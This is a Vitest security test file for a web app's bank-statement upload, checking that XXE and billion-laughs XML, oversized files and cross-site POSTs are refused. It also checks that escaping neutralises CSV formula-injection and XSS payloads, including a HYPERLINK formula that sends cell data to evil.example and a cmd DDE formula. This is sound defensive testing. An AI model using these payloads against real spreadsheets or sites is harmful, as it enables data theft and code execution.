/**
 * The owner's bank-statement upload against the production build (docs/decisions/170): an
 * uploaded file is a stranger's bytes. XML with a DOCTYPE (entity expansion, an external
 * entity), a file over the cap, a stranger's or another site's POST are refused with a clear
 * answer and change nothing, never a 500; CSV cells that a spreadsheet would run, and markup,
 * are shown back to the owner as the text they are.
 */
import { readFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { MESSAGES } from '../../../app/forms/messages'
import { SAMPLE_USERS } from '../../../app/integrations/github/emulator-users'
import { type FakeGitHub, startFakeGitHub } from '../../fakes/github'
import { signInThroughPeer } from '../../support/github-sign-in'
import { type RunningServer, startServer } from '../../support/server'

const fixture = (name: string) =>
	readFileSync(new URL(`../../fixtures/bank-statements/${name}`, import.meta.url), 'utf8')
const NOTHING_IMPORTED = 'Every imported payment is matched, assigned or dismissed.'

describe("the owner's bank-statement upload", () => {
	let github: FakeGitHub
	let server: RunningServer
	let owner: string

	beforeAll(async () => {
		github = await startFakeGitHub({ users: SAMPLE_USERS.map((user) => ({ ...user })) })
		server = await startServer({ ...github.env(2_000), ADMIN_GITHUB_LOGINS: 'mona' })
		owner = await signInThroughPeer(server, 'mona')
	})
	afterAll(async () => {
		await server?.stop()
		await github?.close()
	})

	const upload = (text: string, name: string, cookie = owner, origin = server.url) => {
		const form = new FormData()
		form.set('intent', 'import')
		form.set('statement', new File([text], name, { type: 'application/octet-stream' }))
		return fetch(`${server.url}/admin/transfers`, {
			method: 'POST',
			redirect: 'manual',
			headers: { cookie, origin },
			body: form,
		})
	}
	const page = async () =>
		(await fetch(`${server.url}/admin/transfers`, { headers: { cookie: owner } })).text()

	test('XML with entity expansion (billion laughs) is refused next to the file, nothing imported', async () => {
		const response = await upload(fixture('billion-laughs.xml'), 'laughs.xml')
		expect(response.status).toBe(400)
		const html = await response.text()
		expect(html).toContain('A bank statement with a DOCTYPE or entity declarations is refused.')
		expect(html).toMatch(/aria-invalid="true"/)
		expect(await page()).toContain(NOTHING_IMPORTED)
	})

	test('XML with an external entity is refused; no file of the server is read into the page', async () => {
		const response = await upload(fixture('external-entity.xml'), 'secret.xml')
		expect(response.status).toBe(400)
		const html = await response.text()
		expect(html).toContain('A bank statement with a DOCTYPE or entity declarations is refused.')
		expect(html).not.toContain('root:')
		expect(await page()).toContain(NOTHING_IMPORTED)
	})

	test('a file over the cap is refused with the message next to it; far over, the server says 413', async () => {
		const justOver = `date,amount,currency,reference,payer\n${'x'.repeat(1024 * 1024)}`
		const response = await upload(justOver, 'big.csv')
		expect(response.status).toBe(400)
		expect(await response.text()).toContain(MESSAGES.statementTooLarge)
		const farOver = await upload('x'.repeat(3 * 1024 * 1024), 'huge.csv')
		expect(farOver.status).toBe(413)
		expect(await farOver.json()).toEqual({
			error: expect.stringMatching(/^Request body larger than/),
		})
		expect(await page()).toContain(NOTHING_IMPORTED)
	})

	test("a stranger's POST is a 404 and another site's a 403; nothing imported", async () => {
		const csv = fixture('statement.csv')
		const stranger = await signInThroughPeer(server, 'hubot')
		for (const cookie of ['', stranger])
			expect((await upload(csv, 'statement.csv', cookie)).status).toBe(404)
		expect((await upload(csv, 'statement.csv', owner, 'https://evil.example')).status).toBe(403)
		expect(await page()).toContain(NOTHING_IMPORTED)
	})

	test('formula cells and markup from a CSV are shown to the owner as plain text', async () => {
		const markup = '2026-11-29,11.00,EUR,<img src=x onerror=alert(1)>,<script>alert(1)</script>'
		const response = await upload(`${fixture('formula-injection.csv')}${markup}\n`, 'bad.csv')
		expect(response.status).toBe(303)
		const html = await page()
		expect(html).toContain(
			'=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Click&quot;)',
		)
		expect(html).toContain('@SUM(1+1)*cmd|&#x27; /C calc&#x27;!A0')
		expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;')
		expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
		expect(html).not.toContain('<img src=x')
		expect(html).not.toContain('href="http://evil.example')
	})
})
